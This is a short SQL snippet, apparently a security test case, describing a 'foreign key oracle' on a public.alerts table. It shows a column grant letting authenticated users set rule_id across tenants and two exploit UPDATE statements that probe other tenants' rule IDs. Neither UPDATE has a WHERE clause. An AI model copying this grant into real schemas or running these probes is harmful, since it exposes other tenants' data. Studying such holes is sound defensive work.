-- channel: foreign key oracle
-- object: public.alerts
-- says: Operators may set the rule of an alert, and the key accepts rules of any tenant.
grant update (rule_id) on public.alerts to authenticated;
-- exploit as adam
update public.alerts
set
    rule_id = 'e4000000-0000-4000-8000-0000000000ff',
    acknowledged_by = auth.uid(), acknowledged_at = now();
update public.alerts
set
    rule_id = 'e4000000-0000-4000-8000-00000000000b',
    acknowledged_by = auth.uid(), acknowledged_at = now();
-- leaks when differs
